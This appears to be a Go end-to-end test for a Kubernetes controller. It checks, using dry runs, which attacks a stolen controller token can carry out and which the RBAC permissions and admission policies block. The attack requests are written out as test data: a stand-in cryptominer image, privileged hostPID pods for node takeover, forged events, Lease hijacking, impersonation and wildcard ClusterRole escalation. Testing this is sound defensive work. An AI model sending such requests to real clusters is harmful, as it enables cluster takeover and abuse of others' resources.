package e2e

import (
	"context"
	"strings"
	"testing"

	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/clientcmd"

	"example.com/foo-controller/pkg/apis/samplecontroller/v1alpha1"
	"example.com/foo-controller/pkg/plan"
)

// Where the API server enforces the permissions on owner references, who may not delete a Deployment cannot let the
// garbage collector do it. Elsewhere they can, with or without this controller.
func TestOwnersNeedThePermissionToDelete(t *testing.T) {
	e := newEnforcingEnv(t)
	e.createDeployment(t, "web", func(*appsv1.Deployment) {})
	deployments := e.user(t, editDeployments).kube.AppsV1().Deployments(e.namespace)
	owner := fooOwner()
	owner.BlockOwnerDeletion = nil
	give := []byte(ownerPatch(owner))
	_, err := deployments.Patch(t.Context(), "web", types.MergePatchType, give, metav1.PatchOptions{})
	mustBeForbidden(t, "giving a Deployment to a Foo", err)
	_, err = deployments.Patch(t.Context(), "web", types.MergePatchType, []byte(`{"spec":{"replicas":2}}`),
		metav1.PatchOptions{})
	if err != nil {
		t.Errorf("scaling it: %v", err)
	}

	plain := newEnv(t, apiCluster)
	plain.createDeployment(t, "web", func(*appsv1.Deployment) {})
	if _, err := plain.user(t, editDeployments).kube.AppsV1().Deployments(plain.namespace).Patch(t.Context(), "web",
		types.MergePatchType, give, metav1.PatchOptions{}); err != nil {
		t.Errorf("without that admission plugin: %v", err)
	}
}

// A tokenRow is a request with the token of the controller, as a dry run.
type tokenRow struct {
	name    string
	request func(ctx context.Context, u user) error
	// allowed means that the request is accepted, and so a risk. Else it is forbidden, by the permissions or by policy.
	allowed bool
	policy  string
}

var (
	dryCreate = metav1.CreateOptions{DryRun: dryRun}
	dryUpdate = metav1.UpdateOptions{DryRun: dryRun}
	dryPatch  = metav1.PatchOptions{DryRun: dryRun}
	dryDelete = metav1.DeleteOptions{DryRun: dryRun}
)

// privileged makes the pods of a Deployment take over their node. This is what the risk is about.
func privileged(dep *appsv1.Deployment) {
	dep.Spec.Template.Spec.ServiceAccountName = "namespace-controller" // It may delete everything.
	dep.Spec.Template.Spec.HostPID = true
	dep.Spec.Template.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: new(true)}
}

var tokenRows = []tokenRow{
	// What the token is for.
	{name: "reads all Foos", allowed: true, request: func(ctx context.Context, u user) error {
		_, err := u.samples.SamplecontrollerV1alpha1().Foos("").List(ctx, metav1.ListOptions{})
		return err
	}},
	{name: "reads all Deployments, with the environment of their containers", allowed: true,
		request: func(ctx context.Context, u user) error {
			_, err := u.kube.AppsV1().Deployments("").List(ctx, metav1.ListOptions{})
			return err
		}},
	{name: "runs an image in any namespace, in a Deployment with an invented Foo as its owner", allowed: true,
		request: func(ctx context.Context, u user) error {
			_, err := u.kube.AppsV1().Deployments("kube-system").Create(ctx, deploymentOf("new", owned), dryCreate)
			return err
		}},
	{name: "runs an image in the Deployment of a Foo", allowed: true,
		request: func(ctx context.Context, u user) error {
			return u.patchDeployment(ctx, "web",
				`{"spec":{"replicas":9,"template":{"spec":{"containers":[{"name":"nginx","image":"evil.example/miner:1"}]}}}}`)
		}},
	{name: "mounts a ConfigMap of any namespace", allowed: true, request: func(ctx context.Context, u user) error {
		dep := deploymentOf("new", func(dep *appsv1.Deployment) { owned(dep); mutated(dep) })
		_, err := u.kube.AppsV1().Deployments("kube-system").Create(ctx, dep, dryCreate)
		return err
	}},
	{name: "deletes the Deployment of a Foo", allowed: true, request: func(ctx context.Context, u user) error {
		return u.kube.AppsV1().Deployments("victim").Delete(ctx, "web", dryDelete)
	}},
	{name: "writes any status", allowed: true, request: func(ctx context.Context, u user) error {
		foos := u.samples.SamplecontrollerV1alpha1().Foos("victim")
		foo, err := foos.Get(ctx, "web", metav1.GetOptions{})
		if err != nil {
			return err
		}
		foo.Status.AvailableReplicas = 99
		_, err = foos.UpdateStatus(ctx, foo, dryUpdate)
		return err
	}},
	{name: "writes events in any namespace", allowed: true, request: func(ctx context.Context, u user) error {
		_, err := u.kube.EventsV1().Events("kube-system").Create(ctx, &eventsv1.Event{
			ObjectMeta: metav1.ObjectMeta{Name: "forged"}, EventTime: metav1.NowMicro(), Type: "Normal", Reason: "Forged",
			Action: "Forge", ReportingController: "kubelet", ReportingInstance: "node",
			Regarding: corev1.ObjectReference{Kind: "Pod", Namespace: "kube-system", Name: "any"},
		}, dryCreate)
		return err
	}},
	{name: "takes the Lease, so that no controller works", allowed: true,
		request: func(ctx context.Context, u user) error {
			leases := u.kube.CoordinationV1().Leases("foo-system")
			lease, err := leases.Get(ctx, controllerName, metav1.GetOptions{})
			if err != nil {
				return err
			}
			lease.Spec.HolderIdentity = new("somebody")
			_, err = leases.Update(ctx, lease, dryUpdate)
			return err
		}},
	{name: "finds out whose a token is", allowed: true, request: func(ctx context.Context, u user) error {
		_, err := u.kube.AuthenticationV1().TokenReviews().Create(ctx,
			&authenticationv1.TokenReview{Spec: authenticationv1.TokenReviewSpec{Token: "any"}}, metav1.CreateOptions{})
		return err
	}},
	{name: "finds out what any user may do", allowed: true, request: func(ctx context.Context, u user) error {
		_, err := u.kube.AuthorizationV1().SubjectAccessReviews().Create(ctx, &authorizationv1.SubjectAccessReview{
			Spec: authorizationv1.SubjectAccessReviewSpec{
				User: "any", NonResourceAttributes: &authorizationv1.NonResourceAttributes{Path: "/metrics", Verb: "get"},
			},
		}, metav1.CreateOptions{})
		return err
	}},

	// What the policies refuse.
	{name: "takes over a node by a privileged Deployment with an invented Foo as its owner", policy: podsPolicy,
		request: func(ctx context.Context, u user) error {
			dep := deploymentOf("new", func(dep *appsv1.Deployment) { owned(dep); privileged(dep) })
			_, err := u.kube.AppsV1().Deployments("kube-system").Create(ctx, dep, dryCreate)
			return err
		}},
	{name: "takes over a node by the Deployment of a Foo", policy: podsPolicy,
		request: func(ctx context.Context, u user) error {
			return u.patchDeployment(ctx, "web", `{"spec":{"template":{"spec":{"hostPID":true}}}}`)
		}},
	{name: "takes another ServiceAccount in the Deployment of a Foo", policy: podsPolicy,
		request: func(ctx context.Context, u user) error {
			return u.patchDeployment(ctx, "web", `{"spec":{"template":{"spec":{"serviceAccountName":"admin"}}}}`)
		}},
	{name: "changes a Deployment that no Foo controls", policy: writesPolicy,
		request: func(ctx context.Context, u user) error {
			return u.patchDeployment(ctx, "foreign", `{"spec":{"paused":true}}`)
		}},
	{name: "gives it to a Foo first", policy: writesPolicy, request: func(ctx context.Context, u user) error {
		return u.patchDeployment(ctx, "foreign", ownerPatch(fooOwner()))
	}},
	{name: "deletes a Deployment that no Foo controls", policy: writesPolicy,
		request: func(ctx context.Context, u user) error {
			return u.kube.AppsV1().Deployments("victim").Delete(ctx, "foreign", dryDelete)
		}},
	{name: "creates a Deployment without an owner", policy: writesPolicy,
		request: func(ctx context.Context, u user) error {
			_, err := u.kube.AppsV1().Deployments("victim").Create(ctx, deploymentOf("new", nothing), dryCreate)
			return err
		}},

	// What no permission is for.
	{name: "reads Secrets", request: func(ctx context.Context, u user) error {
		_, err := u.kube.CoreV1().Secrets("foo-system").List(ctx, metav1.ListOptions{})
		return err
	}},
	{name: "reads ConfigMaps", request: func(ctx context.Context, u user) error {
		_, err := u.kube.CoreV1().ConfigMaps("kube-system").List(ctx, metav1.ListOptions{})
		return err
	}},
	{name: "reads pods", request: func(ctx context.Context, u user) error {
		_, err := u.kube.CoreV1().Pods("foo-system").List(ctx, metav1.ListOptions{})
		return err
	}},
	{name: "creates a pod", request: func(ctx context.Context, u user) error {
		_, err := u.kube.CoreV1().Pods("victim").Create(ctx, &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{Name: "new"},
			Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "a", Image: "a"}}},
		}, dryCreate)
		return err
	}},
	{name: "creates a Foo", request: func(ctx context.Context, u user) error {
		_, err := u.samples.SamplecontrollerV1alpha1().Foos("victim").Create(ctx, &v1alpha1.Foo{
			ObjectMeta: metav1.ObjectMeta{Name: "new"}, Spec: v1alpha1.FooSpec{DeploymentName: "new"},
		}, dryCreate)
		return err
	}},
	{name: "changes the spec of a Foo", request: func(ctx context.Context, u user) error {
		_, err := u.samples.SamplecontrollerV1alpha1().Foos("victim").Patch(ctx, "web", types.MergePatchType,
			[]byte(`{"spec":{"replicas":9}}`), dryPatch)
		return err
	}},
	{name: "deletes a Foo", request: func(ctx context.Context, u user) error {
		return u.samples.SamplecontrollerV1alpha1().Foos("victim").Delete(ctx, "web", dryDelete)
	}},
	{name: "scales a Deployment that no Foo controls", request: func(ctx context.Context, u user) error {
		return u.scaleDeployment(ctx, "foreign")
	}},
	{name: "scales the Deployment of a Foo", request: func(ctx context.Context, u user) error {
		return u.scaleDeployment(ctx, "web")
	}},
	{name: "deletes all Deployments at once", request: func(ctx context.Context, u user) error {
		return u.kube.AppsV1().Deployments("victim").DeleteCollection(ctx, dryDelete, metav1.ListOptions{})
	}},
	{name: "makes a token for itself", request: func(ctx context.Context, u user) error {
		_, err := u.kube.CoreV1().ServiceAccounts("foo-system").CreateToken(ctx, controllerName,
			&authenticationv1.TokenRequest{}, dryCreate)
		return err
	}},
	{name: "gives itself more permissions", request: func(ctx context.Context, u user) error {
		_, err := u.kube.RbacV1().ClusterRoles().Patch(ctx, controllerName, types.MergePatchType,
			[]byte(`{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`), dryPatch)
		return err
	}},
	{name: "lifts the policies", request: func(ctx context.Context, u user) error {
		return u.kube.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Delete(ctx, writesPolicy, dryDelete)
	}},
	{name: "acts as another user", request: func(ctx context.Context, u user) error {
		config := rest.CopyConfig(u.config)
		config.Impersonate.UserName = "kubernetes-admin"
		other, err := kubernetes.NewForConfig(config)
		if err != nil {
			return err
		}
		_, err = other.AppsV1().Deployments("victim").List(ctx, metav1.ListOptions{})
		return err
	}},
	{name: "reads metrics: those of the API server need the same permission as its own",
		request: func(ctx context.Context, u user) error {
			return u.kube.Discovery().RESTClient().Get().AbsPath("/metrics").Do(ctx).Error()
		}},
	{name: "writes a Lease of the nodes", request: func(ctx context.Context, u user) error {
		_, err := u.kube.CoordinationV1().Leases("kube-node-lease").Create(ctx,
			&coordinationv1.Lease{ObjectMeta: metav1.ObjectMeta{Name: "new"}}, dryCreate)
		return err
	}},
	{name: "reads the events of others", request: func(ctx context.Context, u user) error {
		_, err := u.kube.EventsV1().Events("").List(ctx, metav1.ListOptions{})
		return err
	}},
}

func (u user) patchDeployment(ctx context.Context, name, body string) error {
	_, err := u.kube.AppsV1().Deployments("victim").Patch(ctx, name, types.MergePatchType, []byte(body), dryPatch)
	return err
}

func (u user) scaleDeployment(ctx context.Context, name string) error {
	_, err := u.kube.AppsV1().Deployments("victim").Patch(ctx, name, types.MergePatchType,
		[]byte(`{"spec":{"replicas":7}}`), dryPatch, "scale")
	return err
}

// What somebody reaches with the token of the controller, in a cluster with its permissions and its admission policies.
// What is allowed is as much a part of docs/security.md as what is not.
func TestWhatTheTokenOfTheControllerReaches(t *testing.T) {
	e := newDedicatedEnv(t, apiCluster)
	e.deploy(t, "foo-system")
	e.kubectl(t, "", "create", "namespace", "victim")
	victim := &env{cluster: e.cluster, namespace: "victim"}
	victim.createFoo(t, "web", fooSpec("web"))
	victim.createDeployment(t, "foreign", func(*appsv1.Deployment) {})
	foo := victim.foo(t, "web")
	victim.createDeployment(t, "web", func(dep *appsv1.Deployment) {
		dep.OwnerReferences = []metav1.OwnerReference{*metav1.NewControllerRef(foo, plan.FooKind.GroupVersionKind)}
	})
	lease := `{"apiVersion":"coordination.k8s.io/v1","kind":"Lease","metadata":{"name":"foo-controller"}}`
	e.kubectl(t, lease, "create", "-n", "foo-system", "-f", "-")

	config, err := clientcmd.BuildConfigFromFlags("", e.cluster.kubeconfig(t, nil))
	if err != nil {
		t.Fatal(err)
	}
	thief := newUser(t, config)
	for _, row := range tokenRows {
		err := row.request(t.Context(), thief)
		switch {
		case row.allowed && err != nil:
			t.Errorf("%s: %v, want that it is accepted", row.name, err)
		case !row.allowed && !apierrors.IsForbidden(err):
			t.Errorf("%s: %v, want that it is forbidden", row.name, err)
		case row.policy != "" && !strings.Contains(err.Error(), "'"+row.policy+"'"):
			t.Errorf("%s: %v, want a refusal of the policy %s", row.name, err, row.policy)
		case !row.allowed && row.policy == "" && strings.Contains(err.Error(), "ValidatingAdmissionPolicy"):
			t.Errorf("%s: %v, want that no permission is for it", row.name, err)
		}
	}
}
